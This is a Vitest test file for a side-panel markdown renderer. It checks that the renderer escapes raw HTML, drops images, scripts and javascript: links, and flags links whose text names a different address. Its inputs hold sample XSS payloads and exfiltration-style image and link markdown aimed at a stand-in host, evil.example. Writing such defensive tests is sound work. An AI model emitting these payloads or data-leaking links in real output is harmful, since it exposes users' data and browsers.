// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '@/lib/sidepanel/render-markdown';

function renderInto(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

describe('renderMarkdown', () => {
  it('renders formatting, lists, code and tables', () => {
    const container = renderInto('**Two mugs** added:\n\n- blue\n- red\n\n`cart` is *ready*\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(container.querySelector('strong')?.textContent).toBe('Two mugs');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('code')?.textContent).toBe('cart');
    expect(container.querySelector('td')?.textContent).toBe('1');
  });

  it("nests the model's headings under the request's own (an h2 in the side panel and in the trace viewer)", () => {
    const container = renderInto('# Your order\n\nTwo mugs.\n\n## Shipping\n\nTomorrow.\n\n#### Note\n\nSetext\n------');
    const headings = [...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((heading) => `${heading.tagName}:${heading.textContent}`);
    expect(headings).toEqual(['H3:Your order', 'H4:Shipping', 'H6:Note', 'H4:Setext']);
  });

  it('shows raw HTML as text and renders no image or script', () => {
    const container = renderInto(
      'Look <img src=x onerror="alert(1)"> here\n\n<script>alert(2)</script>\n\n![secret](https://evil.example/?q=data)\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(container.querySelector('img, script, iframe, [onerror]')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(container.textContent).toContain('<script>alert(2)</script>');
    expect(container.textContent).toContain('[image: secret]');
    expect(container.innerHTML).not.toContain('evil.example/?q=data');
  });

  it('opens links in a new tab without an opener, and drops script links', () => {
    const container = renderInto('[shop](https://shop.example/cart) and [bad](javascript:alert(1))');
    const links = container.querySelectorAll('a');
    expect(links[0]?.getAttribute('href')).toBe('https://shop.example/cart');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(container.innerHTML).not.toContain('javascript:');
  });

  it('says where a link goes when its words name another address, and on hover for every link', () => {
    const container = renderInto('[https://shop.example/orders/4411](https://evil.example/collect?addr=5%20Main) and <https://shop.example/cart>');
    const [deceptive, plain] = [...container.querySelectorAll('a')];
    expect(deceptive?.getAttribute('title')).toBe('https://evil.example/collect?addr=5%20Main');
    expect(container.textContent).toContain('https://shop.example/orders/4411 (evil.example)');
    expect(plain?.getAttribute('title')).toBe('https://shop.example/cart');
    expect(container.textContent).not.toContain('(shop.example)');
    expect(renderInto('[`https://shop.example/`](https://shop.example/)').textContent?.trim()).toBe('https://shop.example/');
    expect(renderInto('<https://bank.example@evil.example/>').textContent).toContain('(evil.example)');
  });

  it('turns task list boxes into text, not inputs', () => {
    const container = renderInto('- [x] done\n- [ ] open');
    expect(container.querySelector('input')).toBeNull();
    expect(container.textContent).toContain('☑ done');
  });
});
